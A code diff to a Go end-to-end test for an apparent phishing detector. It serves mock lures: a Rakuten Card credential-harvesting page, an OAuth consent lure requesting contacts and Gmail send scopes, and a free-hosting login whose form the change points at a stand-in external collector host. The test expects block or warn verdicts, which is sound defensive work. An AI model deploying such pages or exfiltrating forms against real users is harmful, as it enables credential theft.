@@ -34,7 +34,9 @@ func sites(w http.ResponseWriter, r *http.Request) {
 	case host == "rakuten-card.account-check.top", host == "rakuten.example-idp.com":
 		html(`<html><head><title>楽天カード ログイン</title></head><body><img alt="楽天カード" src="/logo.png"><form action="/p" method="post">ユーザID<input name="u"> パスワード<input type="password" name="p"><button>ログイン</button></form></body></html>`)
 	case host == "someone.github.io":
-		html(`<html><head><title>Member login</title></head><body><form action="/p" method="post">User <input name="u"> Password <input type="password" name="p"></form><p>` + strings.Repeat("Welcome back. ", 20) + `</p></body></html>`)
+		// A sign-in form on free hosting is clean alone (docs/detection.md);
+		// one that sends the password to another site is a warning.
+		html(`<html><head><title>Member login</title></head><body><form action="https://collect.example-forms.net/p" method="post">User <input name="u"> Password <input type="password" name="p"></form><p>` + strings.Repeat("Welcome back. ", 20) + `</p></body></html>`)
 	case host == "friend-request.sns-example.com":
 		http.Redirect(w, r, "https://accounts.google.com/o/oauth2/v2/auth?client_id=123-abc.apps.googleusercontent.com&redirect_uri=https://friend-request.sns-example.com/cb&response_type=code&scope=https://www.googleapis.com/auth/contacts.readonly%20https://www.googleapis.com/auth/gmail.send", http.StatusFound)
 	case host == "accounts.google.com":
@@ -166,7 +168,7 @@ func endToEnd(t *testing.T, e *env) {
 		{"credential phish", "http://rakuten-card.account-check.top/login", "block", 403, []string{"楽天", "rakuten-card.account-check.top"}},
 		{"OAuth consent lure", "http://friend-request.sns-example.com/accept", "block", 403, []string{"連絡先"}},
 		{"APK lure", "http://kuroneko-app.delivery-check.top/", "block", 403, []string{"yamato.apk"}},
-		{"free-hosting login", "https://someone.github.io/login", "warn", 200, []string{"github.io"}},
+		{"free-hosting login posting elsewhere", "https://someone.github.io/login", "warn", 200, []string{"github.io", "collect.example-forms.net"}},
 	}
 	checkVerdicts(t, e, cases)
 
